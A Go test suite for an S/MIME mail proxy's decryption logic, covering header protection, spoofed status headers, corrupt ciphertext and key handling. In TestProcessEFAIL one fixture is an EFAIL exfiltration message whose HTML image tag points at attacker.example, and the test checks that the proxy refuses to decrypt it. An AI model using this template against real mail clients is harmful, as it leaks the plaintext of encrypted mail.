package smime_test

import (
	"bytes"
	"context"
	"crypto"
	"crypto/rsa"
	"encoding/pem"
	"errors"
	"io"
	"os"
	"path/filepath"
	"strings"
	"testing"

	"github.com/smallstep/pkcs7"

	"github.com/smimeproxy/smimeproxy/crypto/cms"
	"github.com/smimeproxy/smimeproxy/crypto/smime"
)

const plainEntity = "Content-Type: text/plain; charset=utf-8\r\n\r\nThe secret is 42.\r\n"

func TestProcessWholeMessage(t *testing.T) {
	k := identity(t, 2048, "Bob")
	msg := encryptedMessage(t, plainEntity, k.Cert)
	res := smime.Process(context.Background(), msg, &ring{keys: []smime.Key{k}}, nil)
	if res.Status != smime.Decrypted {
		t.Fatalf("Process() = %v %q, want Decrypted", res.Status, res.Reason)
	}
	want := statusDecrypted(k, "aes-256-cbc", "no") + outerHeader + plainEntity
	if string(res.Served) != want {
		t.Fatalf("served:\n%q\nwant\n%q", res.Served, want)
	}
	// Determinism: the same input gives the same bytes (RFC 9051 section 2.3.4: RFC822.SIZE must not change).
	again := smime.Process(context.Background(), msg, &ring{keys: []smime.Key{k}}, nil)
	if !bytes.Equal(again.Served, res.Served) {
		t.Fatal("Process is not deterministic")
	}
	// StatusParams are appended to the status header field.
	marked := smime.Process(context.Background(), msg, &ring{keys: []smime.Key{k}}, &smime.Options{StatusParams: []string{"marker=abc"}})
	if !bytes.HasPrefix(marked.Served, []byte(strings.TrimSuffix(statusDecrypted(k, "aes-256-cbc", "no"), "\r\n")+"; marker=abc\r\n")) {
		t.Fatalf("served with marker: %q", head(marked.Served))
	}
}

// TestProcessLabels: the decision is made by the CMS content type, not by the MIME label (RFC 8551 section
// 3.2.2: smime-type may be missing; some agents send application/octet-stream named smime.p7m).
func TestProcessLabels(t *testing.T) {
	k := identity(t, 2048, "Bob")
	der := envelop(t, []byte(plainEntity), k.Cert)
	for _, ct := range []string{
		"application/pkcs7-mime",
		"application/x-pkcs7-mime; name=smime.p7m",
		"application/pkcs7-mime; smime-type=signed-data", // wrong label, enveloped content
		"application/octet-stream; name=smime.p7m",
		"APPLICATION/OCTET-STREAM; NAME=\"SMIME.P7M\"",
	} {
		msg := []byte(outerHeader + "Content-Type: " + ct + "\r\nContent-Transfer-Encoding: base64\r\n\r\n" + b64(der))
		res := smime.Process(context.Background(), msg, &ring{keys: []smime.Key{k}}, nil)
		if res.Status != smime.Decrypted || !bytes.HasSuffix(res.Served, []byte(plainEntity)) {
			t.Errorf("Content-Type %s: Process() = %v %q", ct, res.Status, res.Reason)
		}
	}
	// octet-stream named only in Content-Disposition.
	msg := []byte(outerHeader + "Content-Type: application/octet-stream\r\nContent-Disposition: attachment; filename=smime.p7m\r\n" +
		"Content-Transfer-Encoding: base64\r\n\r\n" + b64(der))
	if res := smime.Process(context.Background(), msg, &ring{keys: []smime.Key{k}}, nil); res.Status != smime.Decrypted {
		t.Errorf("octet-stream with filename=smime.p7m: Process() = %v %q", res.Status, res.Reason)
	}
	// A plain octet-stream attachment is not looked at.
	msg = []byte(outerHeader + "Content-Type: application/octet-stream; name=data.bin\r\nContent-Transfer-Encoding: base64\r\n\r\n" + b64(der))
	if res := smime.Process(context.Background(), msg, &ring{keys: []smime.Key{k}}, nil); res.Status != smime.NotEncrypted {
		t.Errorf("octet-stream data.bin: Process() = %v", res.Status)
	}
}

func TestIsSMIMEType(t *testing.T) {
	for _, c := range []struct {
		mt     string
		params map[string]string
		want   bool
	}{
		{"application/pkcs7-mime", nil, true},
		{"APPLICATION/X-PKCS7-MIME", map[string]string{"smime-type": "enveloped-data"}, true},
		{"application/octet-stream", map[string]string{"NAME": "smime.p7m"}, true},
		{"application/octet-stream", map[string]string{"name": "report.pdf"}, false},
		{"application/pkcs7-signature", nil, false},
		{"multipart/signed", nil, false},
		{"text/plain", nil, false},
	} {
		if got := smime.IsSMIMEType(c.mt, c.params); got != c.want {
			t.Errorf("IsSMIMEType(%q, %v) = %v, want %v", c.mt, c.params, got, c.want)
		}
	}
}

// TestProcessEFAIL: an encrypted part beside attacker-controlled parts, or anywhere below the top level except
// under exactly one signature, is never decrypted (EFAIL direct exfiltration; Thunderbird bug 1806161).
func TestProcessEFAIL(t *testing.T) {
	k := identity(t, 2048, "Bob")
	der := envelop(t, []byte(plainEntity), k.Cert)
	cases := map[string]string{
		"mixed with html": outerHeader + "Content-Type: multipart/mixed; boundary=\"b1\"\r\n\r\n" +
			"--b1\r\nContent-Type: text/html\r\n\r\n<img src=\"http://attacker.example/?\r\n" +
			"--b1\r\n" + p7mPart(der) +
			"--b1\r\nContent-Type: text/html\r\n\r\n\">\r\n--b1--\r\n",
		"mixed, single part": outerHeader + "Content-Type: multipart/mixed; boundary=b1\r\n\r\n--b1\r\n" + p7mPart(der) + "--b1--\r\n",
		"signed with three parts": outerHeader + "Content-Type: multipart/signed; boundary=b1; protocol=\"application/pkcs7-signature\"\r\n\r\n" +
			"--b1\r\n" + p7mPart(der) + "--b1\r\nContent-Type: application/pkcs7-signature\r\n\r\nAAAA\r\n" +
			"--b1\r\nContent-Type: text/html\r\n\r\n<b>hi</b>\r\n--b1--\r\n",
		"signed, encrypted second": outerHeader + "Content-Type: multipart/signed; boundary=b1\r\n\r\n" +
			"--b1\r\nContent-Type: text/html\r\n\r\n<b>hi</b>\r\n--b1\r\n" + p7mPart(der) + "--b1--\r\n",
		"signed in mixed": outerHeader + "Content-Type: multipart/mixed; boundary=b0\r\n\r\n--b0\r\n" +
			"Content-Type: multipart/signed; boundary=b1\r\n\r\n--b1\r\n" + p7mPart(der) +
			"--b1\r\nContent-Type: application/pkcs7-signature\r\n\r\nAAAA\r\n--b1--\r\n--b0--\r\n",
		"rfc822 attachment": outerHeader + "Content-Type: message/rfc822\r\n\r\n" + string(encryptedMessage(t, plainEntity, k.Cert)),
		"zero-part signed":  outerHeader + "Content-Type: multipart/signed; boundary=b1\r\n\r\nno parts here\r\n",
		"zero-part mixed":   outerHeader + "Content-Type: multipart/mixed; boundary=b1\r\n\r\n--b1--\r\n",
		"no boundary":       outerHeader + "Content-Type: multipart/signed\r\n\r\n--b1\r\n" + p7mPart(der) + "--b1--\r\n",
	}
	for name, m := range cases {
		kr := &ring{keys: []smime.Key{k}}
		res := smime.Process(context.Background(), []byte(m), kr, nil)
		if res.Status != smime.NotEncrypted || string(res.Served) != m {
			t.Errorf("%s: Process() = %v %q, want NotEncrypted served unchanged", name, res.Status, res.Reason)
		}
		if kr.calls != 0 {
			t.Errorf("%s: keyring was asked", name)
		}
	}
	// The same encrypted part alone under one multipart/signed is decrypted (RFC 8551 section 3.5.3).
	m := outerHeader + "Content-Type: multipart/signed; boundary=\"b1\"; protocol=\"application/pkcs7-signature\"\r\n\r\n" +
		"preamble\r\n--b1\r\n" + p7mPart(der) + "--b1\r\nContent-Type: application/pkcs7-signature\r\n\r\nAAAA\r\n--b1--\r\n"
	res := smime.Process(context.Background(), []byte(m), &ring{keys: []smime.Key{k}}, nil)
	if want := statusDecrypted(k, "aes-256-cbc", "no") + outerHeader + plainEntity; string(res.Served) != want {
		t.Errorf("one outer signature: %v %q, served %q", res.Status, res.Reason, res.Served)
	}
}

// TestProcessSpoofedStatus: X-Smimeproxy-* fields from upstream never reach the client.
func TestProcessSpoofedStatus(t *testing.T) {
	k := identity(t, 2048, "Bob")
	spoof := "X-Smimeproxy-Status: decrypted; key=sha256:00; cipher=aes-256-gcm; authenticated=yes\r\n" +
		"x-smimeproxy-other:\r\n folded\r\n"
	plain := outerHeader + spoof + "Content-Type: text/plain\r\n\r\nX-Smimeproxy-Status: in the body stays\r\n"
	res := smime.Process(context.Background(), []byte(plain), nil, nil)
	if want := outerHeader + "Content-Type: text/plain\r\n\r\nX-Smimeproxy-Status: in the body stays\r\n"; res.Status != smime.NotEncrypted || string(res.Served) != want {
		t.Errorf("plain: %v served %q", res.Status, res.Served)
	}
	clean := []byte(outerHeader + "\r\nbody\r\n")
	if got := smime.StripStatusHeaders(clean); &got[0] != &clean[0] || len(got) != len(clean) {
		t.Errorf("StripStatusHeaders without status fields did not return its input")
	}
	// Encrypted, with spoofed fields outside and inside.
	inner := "X-Smimeproxy-Status: decrypted; key=sha256:00\r\n" + plainEntity
	msg := []byte(spoof + string(encryptedMessage(t, inner, k.Cert)))
	res = smime.Process(context.Background(), msg, &ring{keys: []smime.Key{k}}, nil)
	if want := statusDecrypted(k, "aes-256-cbc", "no") + outerHeader + plainEntity; string(res.Served) != want {
		t.Errorf("encrypted: %v served %q", res.Status, res.Served)
	}
	// Undecryptable: the status goes on top of the original minus the spoofed fields.
	res = smime.Process(context.Background(), msg, &ring{}, nil)
	if want := "X-Smimeproxy-Status: undecryptable; reason=no-matching-key\r\n" + string(msg[len(spoof):]); string(res.Served) != want {
		t.Errorf("undecryptable: %v served %q", res.Status, head(res.Served))
	}
}

func TestProcessUndecryptable(t *testing.T) {
	bobK := identity(t, 2048, "Bob")
	other := identity(t, 2048, "Carol")
	msg := encryptedMessage(t, plainEntity, other.Cert)
	status := func(reason smime.Reason) string {
		return "X-Smimeproxy-Status: undecryptable; reason=" + string(reason) + "\r\n"
	}

	check := func(name string, msg []byte, kr smime.Keyring, opts *smime.Options, reason smime.Reason) {
		t.Helper()
		res := smime.Process(context.Background(), msg, kr, opts)
		if res.Status != smime.Undecryptable || res.Reason != reason {
			t.Errorf("%s: Process() = %v %q, want Undecryptable %q", name, res.Status, res.Reason, reason)
			return
		}
		// The cause is typed (like x509.CertificateInvalidError) and carries the same reason.
		if ue, ok := errors.AsType[*smime.UndecryptableError](res.Err); !ok || ue.Reason != reason {
			t.Errorf("%s: Result.Err = %v, want an *UndecryptableError with reason %q", name, res.Err, reason)
		}
		if want := status(reason) + string(msg); string(res.Served) != want {
			t.Errorf("%s: served %q, want the original under the status", name, head(res.Served))
		}
	}
	check("not for us", msg, &ring{keys: []smime.Key{bobK}}, nil, smime.ReasonNoMatchingKey)
	check("nil keyring", msg, nil, nil, smime.ReasonNoMatchingKey)
	check("keyring error", msg, &ring{err: errVaultDown}, nil, smime.ReasonKeyUnavailable)
	if res := smime.Process(context.Background(), msg, &ring{err: errVaultDown}, nil); !errors.Is(res.Err, errVaultDown) {
		t.Errorf("keyring error: Result.Err = %v, want it to wrap the Keyring's error", res.Err)
	}
	// The key itself fails (a remote Decrypter such as Vault Transit while Vault is down): retryable, not corrupt.
	remote := smime.Key{Cert: other.Cert, Private: downDecrypter{other.Private.(crypto.Decrypter)}}
	check("remote key down", msg, &ring{keys: []smime.Key{remote}}, nil, smime.ReasonKeyUnavailable)
	check("too large", msg, &ring{keys: []smime.Key{other}}, &smime.Options{MaxSize: 100}, smime.ReasonTooLarge)

	// Right certificate, wrong private key: RSA fails, nothing is decrypted.
	wrong := smime.Key{Cert: other.Cert, Private: identity(t, 1024, "x").Private}
	check("wrong private key", msg, &ring{keys: []smime.Key{wrong}}, nil, smime.ReasonCorrupt)

	// Broken transfer encoding and broken CMS.
	corruptB64 := []byte(outerHeader + "Content-Type: application/pkcs7-mime; smime-type=enveloped-data\r\n" +
		"Content-Transfer-Encoding: base64\r\n\r\nMIAGCSqG!!!not base64***\r\n")
	check("corrupt base64", corruptB64, &ring{keys: []smime.Key{other}}, nil, smime.ReasonCorrupt)
	garbage := []byte(outerHeader + "Content-Type: application/pkcs7-mime\r\nContent-Transfer-Encoding: base64\r\n\r\n" +
		b64([]byte("this is not a CMS object at all")))
	check("garbage CMS", garbage, &ring{keys: []smime.Key{other}}, nil, smime.ReasonCorrupt)
	der := envelop(t, []byte(plainEntity), other.Cert)
	truncated := []byte(outerHeader + p7mPart(der[:len(der)-40]))
	check("truncated CMS", truncated, &ring{keys: []smime.Key{other}}, nil, smime.ReasonCorrupt)
	// The high bit of the next-to-last ciphertext block's last byte flips the same bit of the last plaintext
	// byte (CBC), so the padding length becomes ≥ 128: always invalid. (Flipping the last block itself
	// garbles it, and 1 in ~256 garbled blocks still ends in valid padding.)
	flipped := append([]byte(nil), der...)
	flipped[len(flipped)-17] ^= 0x80
	check("flipped ciphertext", []byte(outerHeader+p7mPart(flipped)), &ring{keys: []smime.Key{other}}, nil, smime.ReasonCorrupt)
	unknownCTE := []byte(outerHeader + "Content-Type: application/pkcs7-mime\r\nContent-Transfer-Encoding: x-uuencode\r\n\r\nbegin\r\n")
	check("unknown transfer encoding", unknownCTE, &ring{keys: []smime.Key{other}}, nil, smime.ReasonCorrupt)

	// A corrupt object labelled as signed-data is not an encryption layer.
	signedLabel := []byte(outerHeader + "Content-Type: application/pkcs7-mime; smime-type=signed-data\r\n" +
		"Content-Transfer-Encoding: base64\r\n\r\n" + b64([]byte("junk")))
	if res := smime.Process(context.Background(), signedLabel, &ring{keys: []smime.Key{other}}, nil); res.Status != smime.NotEncrypted {
		t.Errorf("corrupt signed-data: Process() = %v %q, want NotEncrypted", res.Status, res.Reason)
	}
	if res := smime.Process(context.Background(), signedLabel, &ring{keys: []smime.Key{other}}, &smime.Options{MaxSize: 10}); res.Status != smime.NotEncrypted {
		t.Errorf("oversized signed-data: Process() = %v %q, want NotEncrypted", res.Status, res.Reason)
	}
}

// TestProcessKeyOrder: of several keys, those whose certificate names a recipient are tried in order and the
// first that decrypts wins (RFC 5652 section 6.2).
func TestProcessKeyOrder(t *testing.T) {
	a := identity(t, 2048, "A")
	b := identity(t, 2048, "B")
	stranger := identity(t, 2048, "S")
	msg := encryptedMessage(t, plainEntity, a.Cert, b.Cert)
	broken := smime.Key{Cert: a.Cert, Private: identity(t, 1024, "x").Private}
	kr := &ring{keys: []smime.Key{stranger, broken, {Cert: nil, Private: b.Private}, b, a}}
	res := smime.Process(context.Background(), msg, kr, nil)
	if res.Status != smime.Decrypted || res.Fingerprint != fingerprintOf(b) {
		t.Fatalf("Process() = %v %q fingerprint %s, want Decrypted with B", res.Status, res.Reason, res.Fingerprint)
	}
	if !bytes.HasSuffix(res.Served, []byte(plainEntity)) {
		t.Fatalf("served %q", res.Served)
	}
}

func fingerprintOf(k smime.Key) string {
	s := statusDecrypted(k, "", "")
	i := strings.Index(s, "sha256:")
	return s[i+7 : i+7+64]
}

// TestProcessLineEnds: a message stored with bare LFs is served with CRLF throughout.
func TestProcessLineEnds(t *testing.T) {
	k := identity(t, 2048, "Bob")
	inner := "Content-Type: text/plain\n\nline one\nline two\r\nline three\n"
	msg := strings.ReplaceAll(string(encryptedMessage(t, inner, k.Cert)), "\r\n", "\n")
	res := smime.Process(context.Background(), []byte(msg), &ring{keys: []smime.Key{k}}, nil)
	want := statusDecrypted(k, "aes-256-cbc", "no") + outerHeader + "Content-Type: text/plain\r\n\r\nline one\r\nline two\r\nline three\r\n"
	if string(res.Served) != want {
		t.Fatalf("served %q\nwant %q", res.Served, want)
	}
}

// TestProcessBareText: a plaintext without a MIME header is served as the body.
func TestProcessBareText(t *testing.T) {
	k := identity(t, 2048, "Bob")
	for _, text := range []string{"hello world\r\nsecond line\r\n", "Dear Bob: hi\r\n", "\r\nbody after an empty header\r\n"} {
		msg := encryptedMessage(t, text, k.Cert)
		res := smime.Process(context.Background(), msg, &ring{keys: []smime.Key{k}}, nil)
		sep := "\r\n"
		if strings.HasPrefix(text, "\r\n") {
			sep = ""
		}
		if want := statusDecrypted(k, "aes-256-cbc", "no") + outerHeader + sep + text; string(res.Served) != want {
			t.Errorf("served %q\nwant %q", res.Served, want)
		}
	}
}

// TestProcessHeaderProtection: RFC 9788 protected header fields inside the encryption replace the outer ones.
func TestProcessHeaderProtection(t *testing.T) {
	k := identity(t, 2048, "Bob")
	outer := "From: alice@example.com\r\nTo: bob@example.com\r\nSubject: ...\r\n" +
		"Date: Thu, 26 Nov 2026 12:00:00 +0000\r\nMessage-ID: <hp@example.com>\r\nReceived: from mx\r\nMIME-Version: 1.0\r\n"
	protected := "Subject: The real subject\r\nFrom: Alice <alice@example.com>\r\nTo: Bob <bob@example.com>\r\n" +
		"Cc: carol@example.com\r\nDate: Thu, 26 Nov 2026 12:00:00 +0000\r\nMessage-ID: <hp@example.com>\r\n"
	t.Run("hp=cipher", func(t *testing.T) {
		inner := "Content-Type: text/plain; charset=utf-8; hp=\"cipher\"\r\n" + protected + "\r\nBody.\r\n"
		msg := []byte(outer + p7mPart(envelop(t, []byte(inner), k.Cert)))
		res := smime.Process(context.Background(), msg, &ring{keys: []smime.Key{k}}, nil)
		want := statusDecrypted(k, "aes-256-cbc", "no") + "Received: from mx\r\nMIME-Version: 1.0\r\n" + inner
		if string(res.Served) != want {
			t.Fatalf("served %q\nwant %q", res.Served, want)
		}
	})
	t.Run("signed payload", func(t *testing.T) {
		// encrypt(multipart/signed(payload with hp)): the fields are copied up from the signed payload, which
		// itself stays byte for byte.
		inner := "Content-Type: multipart/signed; boundary=s1; protocol=\"application/pkcs7-signature\"\r\n\r\n" +
			"--s1\r\nContent-Type: text/plain; hp=\"cipher\"\r\n" + protected + "\r\nBody.\r\n" +
			"--s1\r\nContent-Type: application/pkcs7-signature\r\n\r\nAAAA\r\n--s1--\r\n"
		msg := []byte(outer + p7mPart(envelop(t, []byte(inner), k.Cert)))
		res := smime.Process(context.Background(), msg, &ring{keys: []smime.Key{k}}, nil)
		want := statusDecrypted(k, "aes-256-cbc", "no") + "Received: from mx\r\nMIME-Version: 1.0\r\n" + protected + inner
		if string(res.Served) != want {
			t.Fatalf("served %q\nwant %q", res.Served, want)
		}
	})
	t.Run("opaque signed payload", func(t *testing.T) {
		// encrypt(opaque signed-data(payload with hp)): the fields are copied up from the eContent; the
		// signed-data entity itself stays byte for byte so that the client can verify it.
		payload := "Content-Type: text/plain; hp=\"cipher\"\r\n" + protected + "\r\nBody.\r\n"
		sd, err := pkcs7.NewSignedData([]byte(payload))
		if err != nil {
			t.Fatal(err)
		}
		signer := identity(t, 2048, "Alice")
		if err := sd.AddSigner(signer.Cert, signer.Private.(*rsa.PrivateKey), pkcs7.SignerInfoConfig{}); err != nil {
			t.Fatal(err)
		}
		der, err := sd.Finish()
		if err != nil {
			t.Fatal(err)
		}
		inner := "Content-Type: application/pkcs7-mime; smime-type=signed-data; name=smime.p7m\r\n" +
			"Content-Transfer-Encoding: base64\r\n\r\n" + b64(der)
		msg := []byte(outer + p7mPart(envelop(t, []byte(inner), k.Cert)))
		res := smime.Process(context.Background(), msg, &ring{keys: []smime.Key{k}}, nil)
		want := statusDecrypted(k, "aes-256-cbc", "no") + "Received: from mx\r\nMIME-Version: 1.0\r\n" + protected + inner
		if string(res.Served) != want {
			t.Fatalf("served %q\nwant %q", res.Served, want)
		}
	})
	t.Run("wrapped message/rfc822", func(t *testing.T) {
		wrapped := protected + "MIME-Version: 1.0\r\nContent-Type: text/plain\r\n\r\nBody.\r\n"
		inner := "Content-Type: message/rfc822; forwarded=no\r\n\r\n" + wrapped
		msg := []byte(outer + p7mPart(envelop(t, []byte(inner), k.Cert)))
		res := smime.Process(context.Background(), msg, &ring{keys: []smime.Key{k}}, nil)
		want := statusDecrypted(k, "aes-256-cbc", "no") + "Received: from mx\r\n" + wrapped
		if string(res.Served) != want {
			t.Fatalf("served %q\nwant %q", res.Served, want)
		}
	})
	t.Run("forwarded message stays wrapped", func(t *testing.T) {
		inner := "Content-Type: message/rfc822\r\n\r\nSubject: forwarded\r\n\r\nhi\r\n"
		msg := []byte(outer + p7mPart(envelop(t, []byte(inner), k.Cert)))
		res := smime.Process(context.Background(), msg, &ring{keys: []smime.Key{k}}, nil)
		want := statusDecrypted(k, "aes-256-cbc", "no") + outer + inner
		if string(res.Served) != want {
			t.Fatalf("served %q\nwant %q", res.Served, want)
		}
	})
}

// TestProcessAuthEnveloped: AES-GCM AuthEnvelopedData (RFC 5083) made by openssl is reported authenticated.
func TestProcessAuthEnveloped(t *testing.T) {
	k := identity(t, 2048, "Bob")
	dir := t.TempDir()
	certPEM := filepath.Join(dir, "bob.crt")
	if err := os.WriteFile(certPEM, pemCert(k), 0o600); err != nil {
		t.Fatal(err)
	}
	smimeOut := run(t, []byte(plainEntity), "openssl", "cms", "-encrypt", "-aes-256-gcm", "-binary", certPEM)
	msg := append([]byte(outerHeader), crlf(string(smimeOut))...)
	res := smime.Process(context.Background(), msg, &ring{keys: []smime.Key{k}}, nil)
	if res.Status != smime.Decrypted || !res.Info.Authenticated || res.Info.ContentCipher != "aes-256-gcm" {
		t.Fatalf("Process() = %v %q %+v", res.Status, res.Reason, res.Info)
	}
	if want := statusDecrypted(k, "aes-256-gcm", "yes") + outerHeader; !strings.HasPrefix(string(res.Served), want) ||
		!strings.HasSuffix(string(res.Served), plainEntity) {
		t.Fatalf("served %q", res.Served)
	}
}

func pemCert(k smime.Key) []byte {
	return pem.EncodeToMemory(&pem.Block{Type: "CERTIFICATE", Bytes: k.Cert.Raw})
}

// TestProcessCorruptKeyDeterministic: a corrupt RSA PKCS#1 v1.5 wrapped key gives a pseudo-random content key
// (no padding oracle), the same one every time: the outcome and served bytes do not change between fetches.
func TestProcessCorruptKeyDeterministic(t *testing.T) {
	k := identity(t, 2048, "Bob")
	der := envelop(t, []byte(plainEntity), k.Cert)
	i := bytes.Index(der, []byte{0x04, 0x82, 0x01, 0x00}) // encryptedKey OCTET STRING of 256 bytes
	if i < 0 {
		t.Fatal("no encryptedKey in the fixture")
	}
	der[i+4+100] ^= 0x40
	msg := []byte(outerHeader + p7mPart(der))
	first := smime.Process(context.Background(), msg, &ring{keys: []smime.Key{k}}, nil)
	for range 1000 {
		res := smime.Process(context.Background(), msg, &ring{keys: []smime.Key{k}}, nil)
		if res.Status != first.Status || !bytes.Equal(res.Served, first.Served) {
			t.Fatalf("outcome changed: %v %q, then %v %q", first.Status, first.Reason, res.Status, res.Reason)
		}
	}
	if first.Status == smime.NotEncrypted {
		t.Fatalf("Process() = %v", first.Status)
	}
}

// downDecrypter is a remote key whose service is unreachable.
type downDecrypter struct{ crypto.Decrypter }

func (downDecrypter) Decrypt(io.Reader, []byte, crypto.DecrypterOpts) ([]byte, error) {
	return nil, errVaultDown
}

type ctxKey struct{}

// ctxRing records the context KeysFor was called with.
type ctxRing struct {
	keys []smime.Key
	got  context.Context
}

func (r *ctxRing) KeysFor(ctx context.Context, _ []cms.RecipientID) ([]smime.Key, error) {
	r.got = ctx
	return r.keys, ctx.Err()
}

// TestProcessContext: Process hands its context to the Keyring (which binds remote key operations to it), and
// a lookup that fails because the request went away is reported as key-unavailable with that cause.
func TestProcessContext(t *testing.T) {
	k := identity(t, 2048, "Bob")
	msg := encryptedMessage(t, plainEntity, k.Cert)
	ctx := context.WithValue(context.Background(), ctxKey{}, "request")
	kr := &ctxRing{keys: []smime.Key{k}}
	if res := smime.Process(ctx, msg, kr, nil); res.Status != smime.Decrypted || kr.got == nil || kr.got.Value(ctxKey{}) != "request" {
		t.Fatalf("Process() = %v, KeysFor saw context %v; want Decrypted under the caller's context", res.Status, kr.got)
	}
	gone, cancel := context.WithCancel(ctx)
	cancel()
	res := smime.Process(gone, msg, kr, nil)
	if res.Status != smime.Undecryptable || res.Reason != smime.ReasonKeyUnavailable || !errors.Is(res.Err, context.Canceled) {
		t.Errorf("Process(cancelled) = %v %q, %v; want key-unavailable caused by context.Canceled", res.Status, res.Reason, res.Err)
	}
}
